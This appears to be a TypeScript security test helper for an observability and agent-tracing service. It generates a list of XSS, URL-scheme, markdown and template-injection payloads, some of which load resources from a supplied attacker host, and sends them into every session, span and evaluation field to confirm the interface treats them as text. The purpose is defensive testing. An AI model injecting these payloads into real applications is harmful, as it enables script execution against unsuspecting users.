import { newId, newVisit, sendEvaluation, sendSpans, sendVisit, type Visit } from './feed.ts';

/** What a hostile string would do, if any part of the interface let it. */
const SCRIPT = "window.pwned=1;alert('pwned')";

/** Texts that become code, an address or a picture where they are not shown as what they are: text. */
export function hostileTexts(evil: string): string[] {
  return [
    `<script>${SCRIPT}</script>`,
    `</script></style></title></textarea><script src="${evil}/s.js"></script>`,
    `<img src="${evil}/i.png" onerror="${SCRIPT}">`,
    `"><img src=x onerror=${SCRIPT.replaceAll(' ', '')}>`,
    `' onmouseover='${SCRIPT}' autofocus onfocus='${SCRIPT}`,
    `<svg onload="${SCRIPT}"><use href="${evil}/u.svg#u"/></svg>`,
    `<svg><script>${SCRIPT}</script><foreignObject><iframe src="${evil}/f"></iframe></foreignObject></svg>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>" src="javascript:parent.pwned=1"></iframe>`,
    `<a href="javascript:${SCRIPT}">go</a><form action="javascript:${SCRIPT}"><button>go</button></form>`,
    `<link rel="stylesheet" href="${evil}/l.css"><style>@import url(${evil}/c.css)</style><base href="${evil}/">`,
    `<meta http-equiv="refresh" content="0;url=${evil}/m"><object data="${evil}/o"></object><embed src="${evil}/e">`,
    `<video src="${evil}/v"><source onerror="${SCRIPT}"></video><details open ontoggle="${SCRIPT}">x</details>`,
    `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
    `javascript:${SCRIPT}`,
    `JaVaScRiPt://example.com/%0a${SCRIPT}`,
    `java\tscript:${SCRIPT}`,
    `\u0001javascript:${SCRIPT}`,
    `vbscript:${SCRIPT}`,
    `data:text/html,<script>${SCRIPT}</script>`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>`,
    `[link](javascript:${SCRIPT}) [tab](java\nscript:${SCRIPT}) [data](data:text/html,<script>${SCRIPT}</script>)`,
    `![picture](${evil}/p.png) ![by name][p]\n\n[p]: ${evil}/q.png`,
    `<${evil}/autolink> <javascript:${SCRIPT}> [x]: javascript:${SCRIPT}`,
    `[a](//${evil.replace(/^https?:\/\//, '')}/b "onclick=${SCRIPT}") ![](data:image/svg+xml,<svg/onload=${SCRIPT}>)`,
    '```html\n<script>window.pwned=1</script>\n```\n\n<details><summary>x</summary><img src=x onerror=window.pwned=1></details>',
    `\${window.pwned=1} {{constructor.constructor('window.pwned=1')()}} <%= pwned %> #{pwned}`,
    `__proto__`,
    `constructor`,
    `\u202e<b>right to left</b>\u0000\ufffd\u2028`,
    `//${evil.replace(/^https?:\/\//, '')}/%2e%2e/..\\..\\`,
  ];
}

export interface Keys {
  client: string;
  server: string;
}

export interface Hostile {
  /** The session that holds all texts in all its parts. */
  visit: Visit;
  /** Its trace, with a span a text. */
  traceId: string;
  spanIds: string[];
  answerId: string;
  texts: string[];
}

/** Sends every text in every place that a page, an agent or a judge can fill, through the real doors. */
export async function sendHostile(evil: string, keys: Keys): Promise<Hostile> {
  const texts = hostileTexts(evil);
  const start = Date.now() - 120_000;
  // An id, too, is what its sender made of it.
  const visit = newVisit(start, { sessionId: `"><img src=x onerror=window.pwned=1>/../${newId(8)}` });
  const [traceId, answerId] = [newId(16), newId(8)];
  const spanIds = texts.map(() => newId(8));
  await sendOne(visit, texts, { traceId, answerId, keys });
  for (const [index, text] of texts.entries()) await sendSmall(start - index * 1_000, text, keys);
  await sendSpans(
    traceId,
    texts.map((text, index) => spanOf(text, index, { start: start + 2_000, spanIds, texts, visit })),
    keys.server,
    texts[2],
  );
  for (const text of texts) {
    await sendEvaluation(
      {
        label: text.slice(0, 200),
        metric_type: 'categorical',
        value: text,
        assessment: 'fail',
        source: 'judge',
        submitter: text,
        reasoning: text,
        tags: { [text.slice(0, 100)]: text },
        join_on: { span: { trace_id: traceId, span_id: spanIds[0] } },
      },
      keys.server,
    );
  }
  return { visit, traceId, spanIds, answerId, texts };
}

/** A session of its own for one text: it is the person, the page, the application. */
async function sendSmall(at: number, text: string, keys: Keys): Promise<void> {
  const visit = newVisit(at);
  const id = text.slice(0, 128);
  await sendVisit(visit, {
    key: keys.client,
    user: { id, name: text, email: text },
    path: `/${text}`,
    env: text.replaceAll(',', ' ').slice(0, 100),
    userAgent: text.replace(/[^\x20-\x7e]/g, ' '),
    service: text.slice(0, 200),
    events: [
      { type: 'action', date: at + 100, action: { id: newId(8), type: 'click', target: { name: text } } },
    ],
  });
  await sendSpans(
    newId(16),
    [
      {
        name: text,
        kind: 'agent',
        start: at + 200,
        durationMs: 300,
        error: text,
        attributes: {
          'diptych.session.id': visit.sessionId,
          'input.value': text,
          'output.value': text,
          'user.id': id,
          'diptych.ml_app': text,
        },
      },
    ],
    keys.server,
    text,
  );
}

async function sendOne(
  visit: Visit,
  texts: string[],
  { traceId, answerId, keys }: { traceId: string; answerId: string; keys: Keys },
): Promise<void> {
  const events = texts.flatMap((text, index) => {
    const date = visit.start + 100 + index * 50;
    return [
      { type: 'action', date, action: { id: newId(8), type: text, target: { name: text } } },
      {
        type: 'error',
        date,
        error: {
          id: newId(8),
          message: text,
          type: text,
          stack: `${text}\n  at ${text}`,
          source: 'console',
          causes: [{ message: text, type: text, stack: text, source: 'source' }],
        },
      },
      {
        type: 'resource',
        date,
        resource: { id: newId(8), type: 'fetch', method: 'GET', url: text, status_code: 500, duration: 1e8 },
      },
      {
        type: 'view',
        date,
        view: {
          id: newId(8),
          url: text,
          name: text,
          referrer: text,
          time_spent: 1e8,
          largest_contentful_paint: 3e9,
          largest_contentful_paint_target_selector: text,
          action: { count: 0 },
          error: { count: 0 },
          resource: { count: 0 },
        },
        context: { [text]: text },
        _dd: { format_version: 2, document_version: 1 },
      },
    ];
  });
  await sendVisit(visit, {
    key: keys.client,
    user: { id: 'u', name: texts[0], email: texts[3] },
    path: `/${texts[2]}`,
    service: texts[2] ?? '',
    events: [
      ...events,
      {
        type: 'answer',
        date: visit.start + 2_000,
        answer: {
          id: answerId,
          url: texts[13],
          method: 'POST',
          question: texts.join('\n\n'),
          first_byte_ms: 100,
          first_paint_ms: 200,
          done_ms: 900,
          end_reason: 'done',
        },
        dip: { trace_id: traceId, span_id: newId(8) },
      },
    ],
  });
}

/** The first span holds all texts as messages; the others have one as their name and in each of their parts. */
function spanOf(
  text: string,
  index: number,
  { start, spanIds, texts, visit }: { start: number; spanIds: string[]; texts: string[]; visit: Visit },
) {
  const messages = texts.flatMap((each) => [
    { role: 'system', parts: [{ type: 'text', content: each }] },
    {
      role: 'user',
      parts: [
        { type: 'text', content: each },
        { type: 'uri', uri: each, mime_type: 'image/png' },
      ],
    },
    { role: 'assistant', parts: [{ type: 'tool_call', id: each, name: each, arguments: { [each]: each } }] },
    { role: 'tool', parts: [{ type: 'tool_call_response', id: each, response: { [each]: [each] } }] },
  ]);
  return {
    id: spanIds[index] ?? newId(8),
    ...(index > 0 ? { parent: spanIds[0] ?? '' } : {}),
    name: text,
    kind: index === 0 ? 'agent' : (['llm', 'tool', 'retrieval', 'embedding'][index % 4] ?? 'llm'),
    start: start + index * 20,
    durationMs: 800,
    ...(index % 2 ? { error: text } : {}),
    attributes: {
      'diptych.session.id': visit.sessionId,
      'gen_ai.request.model': text,
      'gen_ai.provider.name': text,
      'gen_ai.tool.name': text,
      'gen_ai.agent.name': text,
      'gen_ai.input.messages': JSON.stringify(
        index < 2 ? messages : messages.slice(index * 4, index * 4 + 4),
      ),
      'gen_ai.output.messages': JSON.stringify([{ role: text, parts: [{ type: 'text', content: text }] }]),
      'input.value': text,
      'output.value': text,
      'retrieval.documents.0.document.id': text,
      'retrieval.documents.0.document.content': text,
      'retrieval.documents.0.document.score': text,
      'exception.stacktrace': text,
      [text]: text,
      [`diptych.tags.${text}`]: text,
      'diptych.metadata': JSON.stringify({ [text]: text }),
    },
  };
}
